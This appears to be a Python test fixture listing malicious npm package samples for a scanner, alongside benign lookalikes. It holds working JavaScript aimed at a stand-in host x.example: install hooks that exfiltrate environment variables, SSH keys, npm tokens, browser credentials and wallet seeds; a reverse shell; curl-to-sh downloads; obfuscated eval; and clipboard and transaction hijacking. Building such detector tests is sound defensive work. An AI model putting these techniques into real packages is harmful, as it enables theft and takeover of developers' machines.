"""Ways to write harm in packages of npm, for what installs or requires them. What they would run does nothing."""

from __future__ import annotations

from tests.corpus.packages import npm

_FILES = {
    "environment posted": ({"index.js": "const https=require('https');const r=https.request({hostname:'x.example',method:'POST'});r.write(JSON.stringify(process.env));r.end();"}, None),
    "file that a file asks for": ({"a.js": "require('./lib/b');", "lib/b.js": "const cp=require('child_process');fetch('https://x.example/a').then(r=>r.text()).then(t=>eval(t));"}, {"postinstall": "node a.js"}),
    "names put together": ({"a.js": "const c=require('child_'+'process');c['ex'+'ec']('curl https://x.example/a | sh');"}, {"postinstall": "node a.js"}),
    "names as escapes": ({"a.js": "const c=require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73');c.exec('whoami | curl -d @- https://x.example');"}, {"preinstall": "node a.js"}),
    "attribute in brackets": ({"index.js": "const h=require('https');const e=process['env'];h.get('https://x.example/?q='+encodeURIComponent(JSON.stringify(e)));"}, None),
    "fetched and evaluated": ({"index.js": "(async()=>{const r=await fetch('https://x.example/p');eval(await r.text())})();"}, None),
    "fetched and made a function": ({"index.js": "const axios=require('axios');axios.get('https://x.example/p').then(r=>new Function('require',r.data)(require));"}, None),
    "shell on a connection": ({"index.js": "const net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'x.example',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});"}, None),
    "fetched, written and started": ({"a.js": "const https=require('https'),fs=require('fs'),cp=require('child_process');https.get('https://x.example/m',r=>{const f=fs.createWriteStream('/tmp/m');r.pipe(f);f.on('finish',()=>{fs.chmodSync('/tmp/m',0o755);cp.spawn('/tmp/m',{detached:true})})});"}, {"install": "node a.js"}),
    "key sent": ({"index.js": "const fs=require('fs'),os=require('os'),https=require('https');const k=fs.readFileSync(os.homedir()+'/.ssh/id_rsa');const r=https.request({host:'x.example',method:'POST'});r.end(k);"}, None),
    "drop point": ({"index.js": "const axios=require('axios');axios.post('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdef',{content:require('os').hostname()});"}, None),
    "host in names that are looked up": ({"index.js": "const dns=require('dns'),os=require('os');const d=Buffer.from(JSON.stringify({h:os.hostname(),u:os.userInfo()})).toString('hex');dns.lookup(d+'.x.oast.fun',()=>{});"}, {"preinstall": "node index.js"}),
    "decoded and evaluated": ({"index.js": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString());"}, None),
    "decoded and made a function": ({"index.js": "new Function(atob('Y29uc29sZS5sb2coMSk='))();"}, None),
    "virtual machine": ({"index.js": "const vm=require('vm');require('https').get('https://x.example/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>vm.runInThisContext(d))});"}, None),
    "wallet sent": ({"index.js": "const fs=require('fs'),p=process.env.APPDATA+'/Exodus/exodus.wallet';const axios=require('axios');axios.post('https://x.example',fs.readFileSync(p+'/seed.seco'));"}, None),
    "store of a browser sent": ({"index.js": "const fs=require('fs');const p=process.env.LOCALAPPDATA+'\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';fetch('https://x.example',{method:'POST',body:fs.readFileSync(p)});"}, None),
    "token sent": ({"index.js": "const fs=require('fs');const t=fs.readFileSync(process.env.HOME+'/.npmrc','utf8');fetch('https://x.example?t='+encodeURIComponent(t));"}, {"postinstall": "node index.js"}),
    "commands over a socket": ({"index.js": "const WebSocket=require('ws'),{exec}=require('child_process');const w=new WebSocket('wss://x.example');w.on('message',m=>exec(m.toString(),(e,o)=>w.send(o)));"}, None),
    "address in the clipboard": ({"index.js": "setInterval(()=>{navigator.clipboard.readText().then(t=>{if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText('0x1111111111111111111111111111111111111111')})},500);"}, None),
    "wallet of a page": ({"index.js": "if(window.ethereum){const o=window.ethereum.request;window.ethereum.request=function(a){if(a.method==='eth_sendTransaction'){a.params[0].to='0x1111111111111111111111111111111111111111'}return o.call(this,a)}}"}, None),
    "static imports": ({"index.mjs": "import {exec} from 'node:child_process';import https from 'node:https';https.get('https://x.example/c',r=>r.on('data',d=>exec(d.toString())));"}, None),
    "dynamic import": ({"index.js": "import('node:child_process').then(c=>c.exec('curl -s https://x.example/a.sh | bash'));"}, None),
    "script in the hook": ({"index.js": "1"}, {"postinstall": 'node -e "require(\'https\').get(\'https://x.example/\'+require(\'os\').hostname())"'}),
    "script without an ending": ({"index.js": "1", "bin/setup": "#!/usr/bin/env node\nrequire('child_process').exec('curl https://x.example/a|sh')\n"}, {"postinstall": "./bin/setup"}),
    "hidden PowerShell": ({"a.js": "require('child_process').exec('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA');"}, {"postinstall": "node ./a.js"}),
    "environment in a template": ({"index.js": "const u=`https://x.example/${Object.values(process.env).join('|')}`;require('https').get(u);"}, None),
    "publishes itself": ({"a.js": "const {execSync}=require('child_process');const fs=require('fs');const t=fs.readFileSync(require('os').homedir()+'/.npmrc','utf8');execSync('npm publish --access public');"}, {"postinstall": "node a.js"}),
    "decoded command, later": ({"index.js": "setTimeout(function(){require('child_process').exec(Buffer.from('Y3VybA==','base64').toString())},1000);"}, None),
    "characters": ({"index.js": "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));"}, None),
    "global object of a function": ({"index.js": "var _0xabc=['log','constructor'];(function(){return this}())['eval'](decodeURIComponent('%61%6c%65%72%74'));"}, None),
    "client of a library": ({"index.js": "const got=require('got');const {execFile}=require('child_process');const fs=require('fs');got('https://x.example/a').buffer().then(b=>{fs.writeFileSync('/tmp/a',b);execFile('/tmp/a')});"}, None),
    "environment, picked": ({"index.js": "const o={};for(const k in process.env)if(/TOKEN|KEY/.test(k))o[k]=process.env[k];fetch('https://x.example',{method:'POST',body:JSON.stringify(o)});"}, None),
    "settings that a command prints": ({"index.js": "const {execSync}=require('child_process');const d=execSync('git config --list && env').toString();require('https').request({host:'x.example',method:'POST'}).end(d);"}, {"postinstall": "node index.js"}),
}  # fmt: skip
SCRIPT_VARIANTS = {name: npm(files, hooks) for name, (files, hooks) in _FILES.items()}
_BENIGN = {
    "client": {"index.js": "const axios = require('axios');\nexports.ask = (url, token = process.env.TOKEN) => axios.post(url, {q: 1}, {headers: {authorization: token}});\n"},
    "command with its environment": {"index.js": "const {spawn} = require('child_process');\nexports.run = (name) => spawn(name, [], {env: process.env, stdio: 'inherit'});\n"},
    "template engine": {"index.js": "exports.compile = (text) => new Function('it', 'return `' + text + '`');\n"},
    "global object": {"index.js": "var root = typeof self == 'object' && self || Function('return this')();\nmodule.exports = root.fetch;\n"},
    "icon in base64": {"index.js": "exports.icon = Buffer.from('iVBORw0KGgo=', 'base64');\nexports.load = (url) => fetch(url).then((r) => r.json());\n"},
    "bundle that asks for its mode": {"index.js": "if (process.env.NODE_ENV !== 'production') { fetch('/hot').then((r) => r.text()).then((t) => console.log(t)); }\n"},
    "names of settings": {"index.js": "for (const name of Object.keys(process.env)) if (name.startsWith('APP_')) exports[name] = process.env[name];\n"},
}  # fmt: skip
SCRIPT_BENIGN = {name: npm(files) for name, files in _BENIGN.items()}
